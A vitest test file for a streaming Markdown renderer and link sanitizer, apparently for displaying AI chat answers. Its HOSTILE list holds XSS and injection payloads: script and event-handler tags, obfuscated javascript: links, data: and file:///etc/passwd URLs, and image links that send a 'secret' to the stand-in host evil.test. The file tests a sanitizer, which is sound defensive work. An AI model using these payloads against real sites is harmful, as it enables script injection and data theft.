import { describe, expect, it, vi } from "vitest";
import { linkCitations, MarkdownWriter, safeHref, spoken } from "../src/markdown";

function rendered(text: string, size = text.length || 1): HTMLElement {
  const root = document.createElement("div");
  const writer = new MarkdownWriter(root);
  for (let at = 0; at < text.length; at += size) writer.write(text.slice(at, at + size));
  writer.end();
  return root;
}

const ALLOWED = new Set("P,H3,H4,CODE,PRE,EM,STRONG,S,A,SPAN,BLOCKQUOTE,BR,HR,UL,OL,LI,TABLE,TR,TD".split(","));
const ATTRIBUTES = new Set(["href", "target", "rel", "start", "tabindex", "class"]);

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>*{background:url(//evil.test)}</style>",
  "<a href='javascript:alert(1)'>x</a>",
  "![pixel](https://evil.test/p.png?secret)",
  "![pixel][ref]\n\n[ref]: https://evil.test/p.png",
  "[![x](https://evil.test/a.png)](javascript:alert(1))",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](blob:https://evil.test/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.test/a)",
  "[x](/relative)",
  "[x](https://user:pass@evil.test/)",
  "[x](https:\\\\evil.test)",
  "[x](tel:+491234)",
  '[x](https://evil.test "onmouseover=alert(1)")',
  "<javascript:alert(1)>",
  "<https://evil.test/><img src=x>",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<img src=x onerror=alert(1)>\n```",
  "```\" onclick=\"alert(1)\ncode\n```",
  "- [x] <input autofocus onfocus=alert(1)>",
  "| a | b |\n|---|---|\n| <b onclick=alert(1)>x</b> | ![](https://evil.test/) |",
  "$$\\href{javascript:alert(1)}{x}$$",
  `${"> ".repeat(200)}deep`,
  `${"- ".repeat(200)}deep`,
  "*".repeat(500),
  "[".repeat(500),
  "`".repeat(499),
  "\u0000\u202e\uffff",
];

describe("Markdown from strangers", () => {
  for (const size of [1, 3, 10_000]) {
    it.each(HOSTILE)(`becomes allowed nodes alone, in pieces of ${size}: %s`, (text) => {
      for (const element of rendered(text, size).querySelectorAll("*")) {
        expect(ALLOWED).toContain(element.tagName);
        for (const name of element.getAttributeNames()) expect(ATTRIBUTES).toContain(name);
        const href = element.getAttribute("href");
        if (href !== null) expect(href).toMatch(/^(https?:\/\/[^@]*$|mailto:)/);
      }
    });
  }

  it("keeps the words of what it does not draw", () => {
    expect(rendered("![a red plug](https://evil.test/p.png)").textContent).toContain("a red plug");
    expect(rendered("<b>bold</b>").textContent).toContain("<b>bold</b>");
  });
});

describe("Markdown", () => {
  it("draws what answers are made of", () => {
    const root = rendered("# Title\n\nSome **bold** and `code`.\n\n1. one\n2. two\n\n```\nx < y\n```");
    expect(root.querySelector("h3")?.textContent).toBe("Title");
    expect(root.querySelector("strong")?.textContent).toBe("bold");
    expect(root.querySelectorAll("ol > li")).toHaveLength(2);
    expect(root.querySelector("pre code")?.textContent).toContain("x < y");
  });

  it("is the same whether it arrives at once or letter by letter", () => {
    const text = "Hello **you**, see [the docs](https://docs.test/a) and\n\n- one\n- two\n\nbye";
    expect(rendered(text, 1).innerHTML).toBe(rendered(text).innerHTML);
  });

  it("shows where a link goes, and opens it without handing anything over", () => {
    const anchor = rendered("[click here](https://shop.test/a)").querySelector("a");
    expect(anchor?.textContent).toBe("click here (shop.test)");
    expect(anchor?.rel).toBe("noopener nofollow noreferrer");
    expect(anchor?.target).toBe("_blank");
    expect(rendered("[shop.test](https://shop.test/a)").querySelector("a")?.textContent).toBe("shop.test");
    expect(rendered("[bank.test](https://evil.test/)").querySelector("a")?.textContent).toBe("bank.test (evil.test)");
    expect(rendered("[write](mailto:a@b.test)").querySelector("a")?.textContent).toBe("write (a@b.test)");
  });

  it("leaves a refused link as words", () => {
    const root = rendered("[click](javascript:void)");
    expect(root.querySelector("[href]")).toBeNull();
    expect(root.textContent).toBe("[click]");
  });

  it("is spoken without its signs", () => {
    expect(spoken("Use **this** [1].\n\n- one\n- two")).toBe("Use this. one two");
  });
});

describe("safeHref", () => {
  it.each(["https://a.test/x?y=1#z", "http://a.test/", "mailto:a@b.test"])("takes %s", (value) => {
    expect(safeHref(value)?.href).toBe(value);
  });
  it.each(["", "a.test", "#x", "ftp://a.test", "https://", "https://a\u202eb.test", " https://a.test"])("refuses %j", (value) => {
    expect(safeHref(value)).toBeNull();
  });
});

describe("citations", () => {
  it("become buttons where the source exists, and stay words elsewhere", () => {
    const root = rendered("True [1], also [2], unknown [9], code `[1]`.");
    const open = vi.fn();
    linkCitations(root, new Set([1, 2]), (n) => `Source ${n}`, open);
    const buttons = [...root.querySelectorAll("button")];
    expect(buttons.map((b) => b.getAttribute("aria-label"))).toEqual(["Source 1", "Source 2"]);
    buttons[1]?.click();
    expect(open).toHaveBeenCalledWith(2);
    expect(root.textContent).toContain("[9]");
    expect(root.querySelector("code")?.textContent).toBe("[1]");
  });
});
